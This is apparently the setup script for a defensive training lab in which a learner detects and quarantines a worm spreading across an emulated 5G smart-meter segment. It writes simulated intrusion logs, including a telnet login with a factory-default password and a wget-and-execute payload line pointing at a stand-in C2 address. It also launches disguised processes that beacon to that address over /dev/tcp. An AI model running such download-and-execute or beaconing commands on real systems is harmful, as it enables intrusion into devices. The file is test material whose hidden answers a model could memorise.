#!/bin/bash
# m2m-worm-5g-segment — setup. Runs as sandbox root before the learner attaches (labs/README.md).
# Seed document §1.2: 5G's low latency and device density let M2M malware spread fast; isolate
# clusters, identify infected nodes.
#
# The learner is the operator of a local-5G M2M segment (24 smart meters and line sensors of a
# fictional electricity distributor) on its management node. The nodes are emulated on this host
# by segd, the segment controller (sandbox root, so the learner can no more kill it or a node's
# worm than they could reach into a real meter):
#   - history: the worm came in from the internet to PATIENT_ZERO's exposed telnet (firmware MX-2.x,
#     default password), then spread node to node; flow records, per-node connection logs and
#     node-agent snapshots show it;
#   - live: every TICK seconds each infected, unquarantined node scans the segment and now and
#     then infects another vulnerable node (real worm processes start, real connections to the C2
#     service on the lab network appear), until the operator applies a quarantine VLAN.
# Ground truth lives in /run/segment (root 0700). Per-session variables go to fd 3 only.
set -euo pipefail
{ : >&3; } 2>/dev/null || { echo "setup.sh: fd 3 is not open; run by hand as: bash setup.sh 3>vars.txt" >&2; exit 2; }

S=/srv/segment
ST=/run/segment
LUID=${LAB_LEARNER_UID:-1000}
LGID=${LAB_LEARNER_GID:-1000}
LHOME=${LAB_LEARNER_HOME:-/home/learner}
RANDOM=${LAB_SEED:-$(( $$ ^ $(date +%s) ))}
export TZ=UTC
chmod 1777 /tmp
var() { printf '%s=%s\n' "$1" "$2" >&3; }
spawn() { ( exec </dev/null >/dev/null 2>&1 3>&-; "$@" ) & }

doc_ip() { # a documentation-range address (RFC 5737) not among the arguments → R
  local prefixes=(192.0.2 198.51.100 203.0.113) ip
  while :; do
    ip=${prefixes[RANDOM % 3]}.$(( RANDOM % 250 + 3 ))
    case " $* " in *" $ip "*) continue ;; esac
    R=$ip; return
  done
}

mkdir -p "$ST" "$S/log" "$S/nodes" "$S/run" "$S/spool"
chmod 700 "$ST"
cp "$S/etc/inventory.csv" "$ST/inventory.csv" # segd's own copy: the operator's etc/ is theirs to edit
doc_ip; ATTACKER_IP=$R
doc_ip "$ATTACKER_IP"; C2_ADDR=$R
printf '%s\n' "$C2_ADDR" >"$ST/c2"
cp /usr/bin/bash "$ST/.m2md"

# ---------------------------------------------------------------- the worm (runs as root, one per infected node)
# Holds a connection to the C2 while its node is not quarantined; a quarantined node's ACL drops it.
cat >"$ST/worm.sh" <<'EOF'
N=$NODE
C2=$(cat /run/segment/c2)
trap '' HUP PIPE
f=$(mktemp -u /tmp/.XXXXXXXX)
mkfifo -m 600 "$f" && exec 9<>"$f" && rm -f "$f"
c=0
while :; do
  q=0
  if [ -f /srv/segment/run/applied.conf ]; then
    while read -r k n _ v; do [ "$k" = node ] && [ "$n" = "$N" ] && [ "$v" = 999 ] && q=1; done </srv/segment/run/applied.conf
  fi
  if (( q )); then
    (( c )) && { exec 5>&-; c=0; }
  elif (( ! c )); then
    { exec 5<>"/dev/tcp/$C2/443"; } 2>/dev/null && { c=1; printf 'HELO %s\n' "$N" >&5 2>/dev/null || c=0; }
  fi
  read -r -t 2 -u 9 _
done
EOF

# ---------------------------------------------------------------- segd: the segment controller emulator
cat >"$ST/segd.sh" <<'EOF'
# Sourced by setup.sh (SEGD_HISTORY=1: events go to $EV and are sorted later) and run by itself as
# the live controller. Root. Reads the operator's apply requests as the operator's uid only.
S=/srv/segment ST=/run/segment JST=32400 TICK=${SEGD_TICK:-15}
# History spreads a cycle's flows over the cycle; live lines are written as they happen, in order.
JIT=$TICK; [ -z "${SEGD_HISTORY:-}" ] && JIT=1
export TZ=UTC
declare -A IP=() VULN=() INF=() QUAR=() FW=()
NODES=()
while IFS=, read -r id ip _ _ _ fw _; do
  [ "$id" = node ] && continue
  IP[$id]=$ip FW[$id]=$fw; NODES+=("$id")
  case $fw in MX-2.*) VULN[$id]=1 ;; esac
done <"$ST/inventory.csv"
C2=$(cat "$ST/c2")
HES=10.60.0.10
pidc=400

ts() { printf -v R '%(%Y-%m-%dT%H:%M:%S)T+09:00' $(( $1 + JST )); }
# emit TIME FILE LINE: a log line with its timestamp (history: buffered and sorted; live: appended).
emit() {
  if [ -n "${SEGD_HISTORY:-}" ]; then printf '%d\t%s\t%s\n' "$1" "$2" "$3" >>"$EV"
  else ts "$1"; printf '%s %s\n' "$R" "$3" >>"$S/$2"; fi
}
flow() { emit "$1" log/flows.log "upf01 flow: $2"; }
nlog() { emit "$1" "nodes/$2/conn.log" "$2 $3"; }
eph() { R=$(( 32768 + RANDOM % 28000 )); }

# infect TIME NODE SRC_IP: the worm logs in with the default password and drops itself.
infect() {
  local t=$1 n=$2 src=$3 p
  pidc=$(( pidc + 3 + RANDOM % 40 )); p=$pidc
  eph; flow "$t" "proto=tcp src=$src:$R dst=${IP[$n]}:23 state=ESTABLISHED bytes_up=$(( 900 + RANDOM % 300 )) bytes_down=1460 dur=$(( 4 + RANDOM % 5 ))s"
  nlog "$t" "$n" "telnetd[$p]: connect from $src"
  nlog $(( t + 1 )) "$n" "login[$p]: LOGIN 'root' from $src (password: factory default)"
  nlog $(( t + 2 )) "$n" "sh[$p]: root: cd /tmp; wget -q http://$C2/m2m/arm7 -O .m2md; chmod +x .m2md; ./.m2md"
  eph; flow $(( t + 2 )) "proto=tcp src=${IP[$n]}:$R dst=$C2:80 state=CLOSED bytes_up=160 bytes_down=$(( 41000 + RANDOM % 900 )) dur=1s"
  nlog $(( t + 3 )) "$n" "telnetd[$p]: session closed for root"
  INF[$n]=$t
  printf '%s %d %s\n' "$n" "$t" "$src" >>"$ST/infected"
  if [ -z "${SEGD_HISTORY:-}" ]; then start_worm "$n"; fi
}
start_worm() { # a renamed bash (comm .m2md) reading the worm from stdin, as root
  ( exec </dev/null >/dev/null 2>&1 3>&-; NODE=$1 exec setsid bash -c 'exec -a ./.m2md /run/segment/.m2md -s' <"$ST/worm.sh" ) &
}
# scan TIME NODE: a burst of telnet probes into the segment (most fail: MX-3 has telnet off).
scan() {
  local t=$1 n=$2 k m dst st
  for (( k = 0; k < 3 + RANDOM % 3; k++ )); do
    m=${NODES[RANDOM % ${#NODES[@]}]}
    [ "$m" = "$n" ] && continue
    if [ -n "${QUAR[$n]:-}" ] || [ -n "${QUAR[$m]:-}" ]; then st="DROPPED acl=quarantine-999"
    elif [ -n "${VULN[$m]:-}" ]; then st=REJECTED_AUTH
    else st=RST; fi
    eph; flow $(( t + RANDOM % JIT )) "proto=tcp src=${IP[$n]}:$R dst=${IP[$m]}:23 state=$st bytes_up=60 bytes_down=0 dur=0s"
  done
  # Random addresses too: the worm does not know the segment's plan.
  eph; dst=10.50.$(( RANDOM % 256 )).$(( RANDOM % 254 + 1 ))
  if [ -n "${QUAR[$n]:-}" ]; then st="DROPPED acl=quarantine-999"; else st=NO_ROUTE; fi
  flow $(( t + RANDOM % JIT )) "proto=tcp src=${IP[$n]}:$R dst=$dst:23 state=$st bytes_up=60 bytes_down=0 dur=0s"
}
# snapshot TIME: what each node's management agent reports (processes and sockets).
snapshot() {
  local t=$1 n f
  ts "$t"
  for n in "${NODES[@]}"; do
    f=$S/nodes/$n/agent.txt
    {
      printf '# node-agent snapshot %s %s (fw %s) collected %s\n' "$n" "${IP[$n]}" "${FW[$n]}" "$R"
      printf '## processes\n  PID USER  COMMAND\n    1 root  /sbin/init\n  211 root  /usr/sbin/meterd --dlms --hes %s:8883\n  236 root  /usr/sbin/lwm2m-client -s %s\n' "$HES" "$HES"
      [ -n "${VULN[$n]:-}" ] && printf '  244 root  /usr/sbin/telnetd -p 23\n'
      [ -n "${INF[$n]:-}" ] && printf ' %4d root  ./.m2md\n' $(( 1000 + ${INF[$n]} % 4000 ))
      printf '## sockets\n  tcp  0.0.0.0:161       LISTEN       snmpd\n'
      [ -n "${VULN[$n]:-}" ] && printf '  tcp  0.0.0.0:23        LISTEN       telnetd\n'
      printf '  tcp  %s:%d  %s:8883  ESTABLISHED  meterd\n' "${IP[$n]}" $(( 40000 + ${#n} * 97 )) "$HES"
      if [ -n "${INF[$n]:-}" ] && [ -z "${QUAR[$n]:-}" ]; then
        printf '  tcp  %s:%d  %s:443  ESTABLISHED  .m2md\n' "${IP[$n]}" $(( 50000 + ${INF[$n]} % 9000 )) "$C2"
        printf '  tcp  %s:%d  10.50.%d.%d:23  SYN_SENT  .m2md\n' "${IP[$n]}" $(( 50000 + RANDOM % 9000 )) $(( 110 + 10 * (RANDOM % 3) )) $(( 10 + RANDOM % 22 ))
      fi
    } >"$f.new" && mv -f "$f.new" "$f"
  done
}
load_applied() {
  QUAR=()
  [ -f "$S/run/applied.conf" ] || return 0
  local k n v
  while read -r k n _ v; do [ "$k" = node ] && [ "$v" = 999 ] && QUAR[$n]=1; done <"$S/run/applied.conf"
}
# apply: the operator's request (read as the operator, so a symlink gains nothing), strictly parsed.
apply() {
  local req line k n kw v bad=0 out="" count=0 names="" now
  req=$(timeout 2 setpriv --reuid="$LUID" --regid="$LGID" --clear-groups cat -- "$S/spool/apply.req" 2>/dev/null | head -c 65536) || true
  rm -f -- "$S/spool/apply.req"
  printf -v now '%(%s)T' -1
  while IFS= read -r line; do
    line=${line%%#*}
    [ -z "${line//[[:space:]]/}" ] && continue
    read -r k n kw v _ <<<"$line"
    if [ "$k" != node ] || [ "$kw" != vlan ] || [ -z "${IP[$n]:-}" ] || ! [[ $v =~ ^(110|120|130|999)$ ]]; then bad=1; break; fi
    out+="node $n vlan $v"$'\n'
    [ "$v" = 999 ] && { count=$(( count + 1 )); names+=" $n"; }
  done <<<"$req"
  ts "$now"
  if (( bad )) || [ -z "$out" ]; then
    printf '%s segd: APPLY REJECTED (syntax or unknown node/VLAN); running configuration unchanged\n' "$R" >>"$S/log/controller.log"
    APPLIES=$(( ${APPLIES:-0} + 1 )); printf 'rejected %s %d\n' "$now" "$APPLIES" >"$S/run/apply.result"
    return
  fi
  { printf '# applied %s serial %s\n' "$R" "$now"; printf '%s' "$out"; } >"$S/run/applied.conf.new"
  mv -f "$S/run/applied.conf.new" "$S/run/applied.conf"
  load_applied
  printf '%s\n' "$now" >"$ST/applied_at"
  printf '%s segd: APPLY ok: %d node(s) in quarantine VLAN 999:%s\n' "$R" "$count" "$names" >>"$S/log/controller.log"
  APPLIES=$(( ${APPLIES:-0} + 1 )); printf 'ok %s %d\n' "$now" "$APPLIES" >"$S/run/apply.result"
}
tick() {
  local now=$1 n new=0 cands=() srcs=() m
  for n in "${!INF[@]}"; do
    scan "$now" "$n"
    [ -z "${QUAR[$n]:-}" ] && srcs+=("$n")
  done
  for n in "${NODES[@]}"; do
    [ -n "${VULN[$n]:-}" ] && [ -z "${INF[$n]:-}" ] && [ -z "${QUAR[$n]:-}" ] && cands+=("$n")
  done
  if (( ${#srcs[@]} && ${#cands[@]} && RANDOM % ${SEGD_SPREAD:-6} == 0 )); then
    m=${cands[RANDOM % ${#cands[@]}]}; n=${srcs[RANDOM % ${#srcs[@]}]}
    infect "$now" "$m" "${IP[$n]}"; new=1
  fi
  snapshot "$now"
  printf '%d %d\n' "$now" "$new" >>"$ST/ticks"
}

[ -n "${SEGD_HISTORY:-}" ] && return 0

# ---- live
while read -r n t _; do INF[$n]=$t; done <"$ST/infected"
load_applied
for n in "${!INF[@]}"; do start_worm "$n"; done
trap '' HUP PIPE
fifo=$(mktemp -u /tmp/.XXXXXXXX); mkfifo -m 600 "$fifo"; exec 9<>"$fifo"; rm -f "$fifo"
printf -v next '%(%s)T' -1
while :; do
  [ -e "$S/spool/apply.req" ] && apply
  printf -v now '%(%s)T' -1
  if (( now >= next )); then tick "$now"; next=$(( now + TICK )); fi
  read -r -t 1 -u 9 _
done
EOF

# ---------------------------------------------------------------- history
T0=$(date +%s)
EV=$(mktemp)
trap 'rm -f "$EV"' EXIT
SEGD_HISTORY=1 LUID=$LUID LGID=$LGID
# shellcheck source=/dev/null
. "$ST/segd.sh"
for n in "${NODES[@]}"; do mkdir -p "$S/nodes/$n"; : >"$S/nodes/$n/conn.log"; done
START=$(( T0 - 2 * 3600 ))
# Normal life: meter readings to the head-end system every 15 minutes, LwM2M registration updates.
for n in "${NODES[@]}"; do
  o=$(( RANDOM % 900 ))
  for (( t = START + o; t < T0; t += 900 )); do
    eph; flow "$t" "proto=tcp src=${IP[$n]}:$R dst=$HES:8883 state=ESTABLISHED bytes_up=$(( 1800 + RANDOM % 600 )) bytes_down=$(( 300 + RANDOM % 100 )) dur=1s"
  done
  nlog $(( START + o )) "$n" "lwm2m-client[236]: registration update to $HES ok"
done
# Internet noise against the few modules with telnet exposed through the UPF: failed logins.
VULNS=(); for n in "${NODES[@]}"; do [ -n "${VULN[$n]:-}" ] && VULNS+=("$n"); done
noise=()
for (( i = 0; i < 6; i++ )); do
  doc_ip "$ATTACKER_IP" "$C2_ADDR" "${noise[@]}"; noise+=("$R"); src=$R
  n=${VULNS[RANDOM % ${#VULNS[@]}]}; t=$(( START + RANDOM % 3000 ))
  eph; flow "$t" "proto=tcp src=$src:$R dst=${IP[$n]}:23 state=CLOSED bytes_up=180 bytes_down=95 dur=2s"
  nlog "$t" "$n" "telnetd[$(( 300 + RANDOM % 90 ))]: connect from $src"
  nlog $(( t + 1 )) "$n" "login[$(( 300 + RANDOM % 90 ))]: FAILED LOGIN for 'admin' from $src"
done
# Patient zero: a vulnerable node, hit from the internet 30–40 minutes ago after a short dictionary run.
PATIENT_ZERO=${VULNS[RANDOM % ${#VULNS[@]}]}
B=$(( T0 - 1800 - RANDOM % 600 ))
for (( i = 0; i < 4 + RANDOM % 4; i++ )); do
  t=$(( B - 40 + i * 6 ))
  eph; flow "$t" "proto=tcp src=$ATTACKER_IP:$R dst=${IP[$PATIENT_ZERO]}:23 state=CLOSED bytes_up=210 bytes_down=120 dur=2s"
  nlog "$t" "$PATIENT_ZERO" "telnetd[$(( 380 + i ))]: connect from $ATTACKER_IP"
  nlog $(( t + 1 )) "$PATIENT_ZERO" "login[$(( 380 + i ))]: FAILED LOGIN for 'root' from $ATTACKER_IP"
done
infect "$B" "$PATIENT_ZERO" "$ATTACKER_IP"
# Spread so far: every tick, scans; now and then a new node, always from one already infected.
INITIAL=$(( 4 + RANDOM % 3 ))
for (( t = B + 60; t < T0 - 30; t += TICK * 4 )); do
  srcs=("${!INF[@]}")
  for n in "${srcs[@]}"; do
    scan "$t" "$n"
    flow "$t" "proto=tcp src=${IP[$n]}:$(( 50000 + ${INF[$n]} % 9000 )) dst=$C2_ADDR:443 state=ESTABLISHED bytes_up=$(( 60 + RANDOM % 40 )) bytes_down=$(( 30 + RANDOM % 20 )) dur=60s"
  done
  if (( ${#INF[@]} < INITIAL && RANDOM % 3 == 0 )); then
    cands=(); for n in "${VULNS[@]}"; do [ -z "${INF[$n]:-}" ] && cands+=("$n"); done
    m=${cands[RANDOM % ${#cands[@]}]}; n=${srcs[RANDOM % ${#srcs[@]}]}
    LAST=$(( t + RANDOM % 30 ))
    infect "$LAST" "$m" "${IP[$n]}"
  fi
done
# Make sure the segment reached INITIAL infected nodes (the last few minutes are the fastest).
LAST=${LAST:-$B}
while (( ${#INF[@]} < INITIAL )); do
  cands=(); for n in "${VULNS[@]}"; do [ -z "${INF[$n]:-}" ] && cands+=("$n"); done
  srcs=("${!INF[@]}"); n=${srcs[RANDOM % ${#srcs[@]}]}
  LAST=$(( LAST + 20 + RANDOM % 40 )); (( LAST > T0 - 5 )) && LAST=$(( T0 - 5 ))
  infect "$LAST" "${cands[RANDOM % ${#cands[@]}]}" "${IP[$n]}"
done
ts $(( T0 - 86400 * 12 )); OLD=$R
printf '%s segd: APPLY ok: 0 node(s) in quarantine VLAN 999:\n' "$OLD" >>"$EV.ctl"
# Write the sorted logs.
sort -n -k1,1 -s "$EV" | while IFS=$'\t' read -r t file line; do
  ts "$t"; printf '%s %s\n' "$R" "$line" >>"$S/$file"
done
mv "$EV.ctl" "$S/log/controller.log"
ts $(( B + 900 )); ALERT_SINCE=$R
ts $(( T0 - 240 )); ALERT_AT=$R

# The running configuration before the incident: every node in its cell's VLAN.
{ printf '# applied %s serial %s\n' "$OLD" $(( T0 - 86400 * 12 )); grep '^node ' "$S/etc/vlan.conf"; } >"$S/run/applied.conf"
snapshot "$T0"

# ---------------------------------------------------------------- the alert (detection)
mkdir -p "$LHOME/inbox" "$LHOME/case"
cat >"$LHOME/inbox/noc-alert.txt" <<EOF
From: noc@grid.kita-minato-energy.example
To: m2m-ops@kita-minato-energy.example
Date: $ALERT_AT
Subject: [ALERT] grid-m2m: telnet (23/tcp) between UEs + outbound 443 to an unknown host / UE 間 telnet 急増

(English below)
ローカル 5G コア（UPF）の監視で、M2M セグメント grid-m2m 内の端末（UE）同士の 23/tcp 通信が
$ALERT_SINCE 頃から急増しています。あわせて一部の端末からインターネット上の未知のホストへの
443/tcp 常時接続が見られます。メーター・センサー群はワーム感染の可能性があります。
UPF のフローログ: /srv/segment/log/flows.log、端末ごとのログ: /srv/segment/nodes/<node>/
セグメントの VLAN 設定: /srv/segment/etc/vlan.conf（segctl で適用）

Our local-5G core (UPF) monitoring shows a surge of 23/tcp traffic between UEs of the M2M
segment grid-m2m since about $ALERT_SINCE, and some UEs hold a permanent 443/tcp connection to an
unknown internet host. The meters and sensors may be infected by a worm.
UPF flow log: /srv/segment/log/flows.log; per-node logs: /srv/segment/nodes/<node>/
Segment VLAN configuration: /srv/segment/etc/vlan.conf (applied with segctl).

-- Network Operations Center, Kita-Minato Energy (fictional)
EOF

chown -R "$LUID:$LGID" "$S/etc" "$S/spool" "$LHOME"
chmod 700 "$S/spool"
chown -R 0:0 "$S/log" "$S/nodes" "$S/run"
chmod -R go-w,a+rX "$S/log" "$S/nodes" "$S/run"

# ---------------------------------------------------------------- start the controller
SEGD_HISTORY='' LUID=$LUID LGID=$LGID spawn setsid env -i PATH=/usr/bin:/bin LUID="$LUID" LGID="$LGID" SEGD_TICK="${SEGD_TICK:-15}" bash "$ST/segd.sh"
for _ in $(seq 1 50); do [ -s "$ST/ticks" ] && break; sleep 0.1; done
[ -s "$ST/ticks" ] || { echo "setup: segd did not start" >&2; exit 1; }
workers=0
for _ in $(seq 1 50); do
  workers=0; for p in /proc/[0-9]*; do [ "$(cat "$p/comm" 2>/dev/null)" = .m2md ] && workers=$(( workers + 1 )) || :; done
  (( workers >= INITIAL )) && break; sleep 0.1
done
(( workers >= INITIAL )) || { echo "setup: only $workers worm processes" >&2; exit 1; }

var PATIENT_ZERO "$PATIENT_ZERO"
var C2_ADDR "$C2_ADDR"
var ATTACKER_IP "$ATTACKER_IP"
var INITIAL_INFECTED "$INITIAL"
echo "setup: ready ($INITIAL infected, patient zero $PATIENT_ZERO)" >&2
